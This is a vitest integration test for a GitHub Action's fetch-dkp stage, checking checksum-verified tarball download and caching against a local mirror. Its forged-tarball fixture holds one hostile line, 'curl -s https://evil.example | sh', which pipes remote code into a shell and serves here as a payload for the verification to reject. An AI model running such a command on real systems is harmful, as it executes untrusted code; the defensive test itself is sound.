// The action's fetch-dkp stage in the real bundle (dist/index.js as a child process with INPUT_*
// variables, real GITHUB_OUTPUT / GITHUB_STEP_SUMMARY files, a fresh RUNNER_TEMP and tool cache
// per run) against a loopback mirror: the verified tarball for the other jobs of a run, in a job
// that holds no secret. A miss downloads once and outputs the tarball and the cache key; a
// verified tarball already in dkp-cache-dir (a cache hit) is used without a request; a forged
// one is refused naming both hashes, and the download replaces it; a kubeconfig, or no sha256 to
// verify against, is refused before anything is fetched.

import { spawn } from 'node:child_process'
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join, resolve } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { dkpCacheKey, dkpPlatform } from '../../src/core/download.js'
import {
  type BuiltTarball,
  buildDkpTarball,
  sha256,
  startTarballServer,
  type TarballServer,
  tarballName,
} from '../helpers/tarball-server.js'

const ROOT = resolve(import.meta.dirname, '../..')
const platform = dkpPlatform(process.platform, process.arch)
const NAME = tarballName('v2.8.1', platform.os, platform.arch)
const PATH = `/dkp/v2.8.1/${NAME}`

let srv: TarballServer
let tmp: string
let good: BuiltTarball
let forged: BuiltTarball

beforeAll(async () => {
  if (!existsSync(join(ROOT, 'dist/index.js'))) throw new Error('dist/ is not built: run `npm run build`')
  tmp = mkdtempSync(join(tmpdir(), 'fetch-dkp-'))
  srv = await startTarballServer()
  good = await buildDkpTarball({ dir: tmp })
  forged = await buildDkpTarball({
    dir: tmp,
    extraFiles: { 'evil.sh': 'curl -s https://evil.example | sh\n' },
  })
  srv.serve(PATH, good.data)
})
afterAll(async () => {
  await srv?.close()
  rmSync(tmp, { recursive: true, force: true })
})

/** The step's outputs: `name<<delimiter` blocks as @actions/core writes them. */
function outputsOf(text: string): Record<string, string> {
  const out: Record<string, string> = {}
  for (const m of text.matchAll(/^([^<\n]+)<<(ghadelimiter_[0-9a-f-]+)\n([\s\S]*?)\n\2$/gm))
    out[m[1]!] = m[3]!
  return out
}

async function fetchDkp(inputs: Record<string, string>, cacheDir: string, toolCache?: string) {
  const job = mkdtempSync(join(tmp, 'job-'))
  const files = { GITHUB_OUTPUT: join(job, 'output'), GITHUB_STEP_SUMMARY: join(job, 'summary') }
  for (const f of Object.values(files)) writeFileSync(f, '')
  mkdirSync(join(job, 'temp'))
  const env: Record<string, string> = {
    PATH: process.env.PATH ?? '',
    HOME: job,
    RUNNER_TEMP: join(job, 'temp'),
    RUNNER_TOOL_CACHE: toolCache ?? join(job, 'tool-cache'),
    GITHUB_WORKSPACE: job,
    ...files,
    INPUT_STAGE: 'fetch-dkp',
    'INPUT_DKP-VERSION': 'v2.8.1',
    'INPUT_DKP-DOWNLOAD-URL': `${srv.origin}/dkp/{version}/dkp_{version}_{os}_{arch}.tar.gz`,
    'INPUT_REQUIRE-CHECKSUM': 'true',
    'INPUT_DKP-CACHE-DIR': cacheDir,
    ...Object.fromEntries(Object.entries(inputs).map(([k, v]) => [`INPUT_${k.toUpperCase()}`, v])),
  }
  // Asynchronously: the mirror answers from this process.
  const child = spawn(process.execPath, [join(ROOT, 'dist/index.js')], { env })
  let log = ''
  child.stdout.on('data', (d) => {
    log += d
  })
  child.stderr.on('data', (d) => {
    log += d
  })
  const code = await new Promise<number | null>((done) => child.on('close', done))
  return {
    code,
    log,
    outputs: outputsOf(readFileSync(files.GITHUB_OUTPUT, 'utf8')),
    summary: readFileSync(files.GITHUB_STEP_SUMMARY, 'utf8'),
    toolCache: env.RUNNER_TOOL_CACHE!,
  }
}

describe('stage fetch-dkp (dist/index.js)', () => {
  const key = () => dkpCacheKey('v2.8.1', platform, good.sha256)

  it('a miss: downloads once, verifies, leaves the tarball in dkp-cache-dir and names it and the key to save', async () => {
    const dir = join(tmp, 'miss')
    const before = srv.count(PATH)
    const r = await fetchDkp({ 'dkp-sha256': good.sha256 }, dir)
    expect(r.code, r.log).toBe(0)
    expect(srv.count(PATH) - before).toBe(1)
    expect(r.outputs).toEqual({ 'dkp-tarball': join(dir, NAME), 'dkp-cache-key': key() })
    expect(sha256(readFileSync(join(dir, NAME)))).toBe(good.sha256)
    expect(r.summary).toContain('## fetch-dkp')
    expect(r.summary).toContain('downloaded from')
  })

  it('a hit: the verified tarball in dkp-cache-dir is used without a request; nothing to save', async () => {
    const dir = join(tmp, 'hit')
    mkdirSync(dir)
    writeFileSync(join(dir, NAME), good.data)
    const before = srv.count(PATH)
    const r = await fetchDkp({ 'dkp-sha256': good.sha256 }, dir)
    expect(r.code, r.log).toBe(0)
    expect(srv.count(PATH) - before).toBe(0)
    expect(r.outputs).toEqual({ 'dkp-tarball': join(dir, NAME) })
    expect(r.log).toContain(`sha256 matches the pinned value (${good.sha256})`)
    expect(r.summary).toContain('the tarball from the Actions cache is verified')
  })

  it('a forged tarball in dkp-cache-dir is refused naming both hashes and the key; the verified download replaces it', async () => {
    const dir = join(tmp, 'forged')
    mkdirSync(dir)
    writeFileSync(join(dir, NAME), forged.data)
    const before = srv.count(PATH)
    const r = await fetchDkp({ 'dkp-sha256': good.sha256 }, dir)
    expect(r.code, r.log).toBe(0)
    expect(r.log).toMatch(
      new RegExp(
        `::warning::.*has sha256 ${forged.sha256}, but the pinned sha256 is ${good.sha256}.*gh cache delete ${key()}`,
      ),
    )
    expect(srv.count(PATH) - before).toBe(1)
    expect(r.outputs['dkp-tarball']).toBe(join(dir, NAME))
    expect(sha256(readFileSync(join(dir, NAME)))).toBe(good.sha256)
  })

  it('a runner whose tool cache already holds the verified dkp has no tarball to hand over', async () => {
    const first = await fetchDkp({ 'dkp-sha256': good.sha256 }, join(tmp, 'tc-1'))
    expect(first.code, first.log).toBe(0)
    const before = srv.count(PATH)
    const r = await fetchDkp({ 'dkp-sha256': good.sha256 }, join(tmp, 'tc-2'), first.toolCache)
    expect(r.code, r.log).toBe(0)
    expect(srv.count(PATH) - before).toBe(0)
    expect(r.outputs).toEqual({})
    expect(r.log).toContain("found verified in this runner's tool cache; no tarball to hand over")
  })

  it('refuses a kubeconfig (the job holds no secret) and a dkp with no known sha256, fetching nothing', async () => {
    const before = srv.count(PATH)
    const withSecret = await fetchDkp(
      { 'dkp-sha256': good.sha256, kubeconfig: 'apiVersion: v1\n' },
      join(tmp, 's'),
    )
    expect(withSecret.code).toBe(1)
    expect(withSecret.log).toContain(
      'stage fetch-dkp takes no kubeconfig: it runs in a job that holds no secret',
    )
    const unpinned = await fetchDkp({ 'dkp-version': 'v2.8.99' }, join(tmp, 'u'))
    expect(unpinned.code).toBe(1)
    expect(unpinned.log).toContain('fetch-dkp: no sha256 is known for dkp v2.8.99')
    expect(srv.count(PATH) - before).toBe(0)
    expect(existsSync(join(tmp, 's'))).toBe(false)
  })
})
